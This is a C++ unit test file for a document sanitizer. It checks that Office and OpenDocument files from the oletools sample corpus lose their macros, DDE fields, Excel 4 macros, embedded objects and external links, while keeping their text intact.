TEST(OfficeStripCorpus, EveryOfficeFileLosesWhatMustGoAndKeepsItsText) {
  const std::string root = kCorpus + "/oletools";
  if (!office_test::file_exists(root)) GTEST_SKIP() << root << " is missing";
  std::vector<CorpusFile> files;
  list_files(root, "oletools/", files);
  static const std::set<std::string> kOffice = {"docx", "docm", "dotx", "dotm", "xlsx", "xlsm", "xltx", "xltm", "xlsb",
                                                "xlam", "pptx", "pptm", "potx", "potm", "ppsx", "ppsm", "odt",  "ods",
                                                "odp",  "xps"};
  std::string table = "\n== office.strip_active over the corpus ==\n";
  int rebuilt = 0;
  for (const auto& f : files) {
    if (!kOffice.count(extension(f.rel))) continue;
    const std::string bytes = office_test::read_file(f.path);
    // Password-protected OOXML is an OLE2 "EncryptedPackage": the detector
    // calls it Kind::Encrypted and policy blocks it before we are asked.
    if (!bytes.starts_with("PK")) continue;
    const Kind kind = extension(f.rel).starts_with("od") ? Kind::OpenDocument : Kind::Office;
    Result r = strip(bytes, kind, f.rel.substr(f.rel.rfind('/') + 1));
    SCOPED_TRACE(f.rel);
    std::string notes;
    for (const auto& n : r.notes) notes += (notes.empty() ? "" : ",") + n.reason.code.substr(n.reason.code.find('.') + 1);
    table += f.rel + " -> " + (r.replaced() ? r.out.name : std::string(r.out.action == Outcome::Action::Remove ? "removed" : "BLOCKED")) +
             " [" + r.out.reason.code + "] " + notes + "\n";
    if (!r.replaced()) {
      EXPECT_EQ(r.out.action, Outcome::Action::Remove) << r.describe();
      const std::set<std::string> expected = {"office.xlsb", "office.addin", "office.unsupported"};
      EXPECT_TRUE(expected.count(r.out.reason.code)) << r.describe();
      continue;
    }
    ++rebuilt;
    auto problems = kind == Kind::OpenDocument ? office_test::odf_problems(r.out.bytes) : office_test::ooxml_problems(r.out.bytes);
    EXPECT_TRUE(problems.empty()) << join(problems);
    auto left = forbidden_left(r.out.bytes);
    EXPECT_TRUE(left.empty()) << join(left);
    const std::set<std::string> macro_enabled = {"docm", "dotm", "xlsm", "xltm", "pptm", "potm", "ppsm"};
    EXPECT_FALSE(macro_enabled.count(extension(r.out.name))) << r.out.name;
    // Text: every kept XML part shows the same text as before.
    auto in = unzip(bytes);
    auto out = unzip(r.out.bytes);
    int compared = 0;
    for (const auto& [name, data] : out) {
      if (!name.ends_with(".xml") || !in.count(name)) continue;
      EXPECT_EQ(texts(data), texts(in[name])) << name;
      ++compared;
    }
    EXPECT_GT(compared, 0);
  }
  std::fputs(table.c_str(), stderr);
  EXPECT_GT(rebuilt, 30);
}

// Named files and what their category says must be gone.
TEST(OfficeStripCorpus, CategorySamples) {
  const std::string root = kCorpus + "/oletools";
  if (!office_test::file_exists(root)) GTEST_SKIP() << root << " is missing";
  struct Case {
    std::string file;
    Kind kind;
    std::vector<std::string> notes;
  };
  const std::vector<Case> cases = {
      {"oleform/oleform-PR314.docm", Kind::Office, {"office.macros", "office.renamed"}},
      {"msodde/dde-test.docx", Kind::Office, {"office.dde"}},
      {"msodde/dde-test.xlsx", Kind::Office, {"office.dde"}},
      {"excel4-macros/excel4_sample_macro.xlsm", Kind::Office, {"office.xlm"}},
      {"oleobj/embedded-simple-2007.docx", Kind::Office, {"office.embedded"}},
      {"oleobj/embedded-simple-2007.pptm", Kind::Office, {"office.embedded"}},
      {"oleobj/embedded-simple-2007.odt", Kind::OpenDocument, {"office.embedded"}},
      {"oleobj/external_link/sample_with_external_link_to_doc.docx", Kind::Office, {"office.external"}},
      {"oleobj/external_link/sample_with_external_link_to_doc.xlsx", Kind::Office, {"office.external"}},
      {"oleobj/external_link/sample_with_external_link_to_doc.pptx", Kind::Office, {"office.external"}},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.file);
    const std::string bytes = office_test::read_file(root + "/" + c.file);
    ASSERT_FALSE(bytes.empty());
    Result r = strip(bytes, c.kind, c.file.substr(c.file.rfind('/') + 1));
    ASSERT_TRUE(r.replaced()) << r.describe();
    EXPECT_FALSE(r.out.cosmetic);
    for (const auto& n : c.notes) EXPECT_TRUE(r.noted(n)) << n << "\n" << r.describe();
    EXPECT_TRUE(forbidden_left(r.out.bytes).empty()) << join(forbidden_left(r.out.bytes));
  }
  // The clean control stays clean: nothing active, verdict unchanged.
  Result clean = strip(office_test::read_file(root + "/msodde/harmless-clean.docx"), Kind::Office, "harmless-clean.docx");
  ASSERT_TRUE(clean.replaced());
  EXPECT_TRUE(clean.out.cosmetic) << clean.describe();
}

}  // namespace
}  // namespace mukaika
